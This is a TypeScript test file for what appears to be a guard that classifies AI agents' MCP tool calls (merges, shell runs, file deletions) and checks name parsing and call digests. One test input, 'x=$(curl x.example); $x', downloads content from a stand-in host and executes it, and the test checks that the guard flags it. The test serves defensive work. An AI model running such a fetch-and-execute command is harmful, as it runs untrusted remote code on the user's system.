import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { classifyEvent, type ClassifyWorld } from '../../../src/engine/classify.ts';
import type { McpCall } from '../../../src/engine/mcp/call-model.ts';
import { calledTool, useName } from '../../../src/engine/mcp/call-name.ts';
import type { ReadMcpUse } from '../../../src/engine/mcp/call.ts';
import type { Event, Hashing } from '../../../src/engine/model.ts';
import { isDigest, raw } from '../../../src/engine/text.ts';

const hashing: Hashing = {
  sha256: (text) => {
    const hex = createHash('sha256').update(text).digest('hex');
    if (!isDigest(hex)) throw new Error('no digest');
    return hex;
  },
};

/** Knows one tool that merges, one that runs shell text, one that deletes files. */
const readMcpUse: ReadMcpUse = ({ tool, args }) => {
  if (tool.endsWith('merge_pull_request')) return { drafts: [{ verb: 'merge', target: 'pull request' }] };
  if (tool === 'run' && typeof args['command'] === 'string') return { drafts: [], shell: args['command'] };
  if (tool === 'delete_file') return { drafts: [], deletes: ['a.txt'] };
  return { drafts: [] };
};

const WORLD: ClassifyWorld = { commands: [], hashing, mask: (text) => text, readMcpUse };
const ARGS = '{"repo":"app","owner":"acme"}';

function gate(more: Partial<McpCall> = {}): Event {
  const base = { kind: 'mcp-call', server: 'github', tool: 'merge_pull_request' } as const;
  return { ...base, text: raw(ARGS), rule: 'allow', cwd: '/work', ...more };
}

function hook(tool: string, text: string = ARGS): Event {
  return { kind: 'tool-call', tool, text: raw(text), cwd: '/elsewhere' };
}

const actionsOf = (event: Event, world = WORLD): ReturnType<typeof classifyEvent>['actions'] =>
  classifyEvent(event, world).actions;

describe('the name a client has for a tool', () => {
  it.each([
    ['mcp__github__merge_pull_request', 'github', 'merge_pull_request'],
    ['mcp__plugin_x_git-hub__merge', 'plugin_x_git-hub', 'merge'],
    ['mcp_github_merge', '', 'github_merge'],
    ['MCP:merge', '', 'merge'],
  ])('%s is a tool of a server', (name, server, tool) => {
    expect(calledTool(name)).toEqual({ server, tool });
  });

  it.each(['Bash', 'mcp', 'mcp__', 'mcp__x', 'list_mcp_resources', 'Mcp__a__b'])('%s is its own', (name) => {
    expect(calledTool(name)).toBeUndefined();
  });

  it.each([
    [
      { server: 'Git Hub', tool: 'merge' },
      { server: 'git-hub', tool: 'merge' },
    ],
    [
      { server: '', tool: 'git_hub_merge' },
      { server: 'git.hub', tool: 'merge' },
    ],
  ])('is one word for %o and %o', (one, other) => {
    expect(useName(one)).toBe(useName(other));
  });
});

describe('a call of a tool', () => {
  it('is the action its name tells', () => {
    expect(actionsOf(gate())).toMatchObject([
      {
        verb: 'merge',
        program: 'mcp',
        argv: ['mcp', 'github', 'merge_pull_request', ARGS],
      },
    ]);
  });

  it('that does nothing of concern is no action', () => {
    expect(actionsOf(gate({ tool: 'get_me' }))).toEqual([]);
    expect(actionsOf(hook('mcp__github__get_me'))).toEqual([]);
  });

  it('is one to be asked about where that was chosen for the tool', () => {
    const [action, ...more] = actionsOf(gate({ tool: 'get_me', rule: 'ask' }));
    expect(more).toEqual([]);
    expect(action).toMatchObject({ verb: 'none', certainty: 'known', call: { tool: 'get_me', asks: true } });
  });

  it.each([
    [
      'in other order and blanks',
      hook('mcp__github__merge_pull_request', '{ "owner":"acme", "repo":"app" }'),
    ],
    ['by another spelling', hook('mcp_github_merge_pull_request')],
    ['from another folder', gate({ cwd: '/tmp' })],
    ['of a tool that asks', gate({ rule: 'ask' })],
  ])('is the same for hook and gate %s', (_, event) => {
    expect(actionsOf(event)[0]?.digest).toBe(actionsOf(gate())[0]?.digest);
  });

  it.each([
    ['with other arguments', gate({ text: raw('{"repo":"app","owner":"other"}') })],
    ['of another server', gate({ server: 'gitlab' })],
    ['with a number that only looks the same', gate({ text: raw('{"id":9007199254740993}') })],
  ])('is another one %s', (_, event) => {
    const base = actionsOf(gate({ text: raw('{"id":9007199254740992}') }));
    expect([actionsOf(gate())[0]?.digest, base[0]?.digest]).not.toContain(actionsOf(event)[0]?.digest);
  });

  it('that runs shell text does what the text does', () => {
    const text = raw(JSON.stringify({ command: 'x=$(curl x.example); $x' }));
    expect(actionsOf(gate({ tool: 'run', text }))).not.toEqual([]);
    expect(actionsOf(gate({ tool: 'run', text: raw('{"command":"ls"}') }))).toEqual([]);
  });

  it('that deletes files names them', () => {
    expect(actionsOf(gate({ tool: 'delete_file' }))).toMatchObject([
      { verb: 'delete-files', paths: ['a.txt'] },
    ]);
  });

  it.each([
    ['known', true, []],
    ['unknown', false, ['guard-tamper']],
  ])('may hold a placeholder that is %s', (_, isKnown, verbs) => {
    const world = { ...WORLD, placeholders: () => ['AUP_X'], isKnown: () => isKnown };
    expect(actionsOf(gate({ tool: 'get_me' }), world).map(({ verb }) => verb)).toEqual(verbs);
  });
});
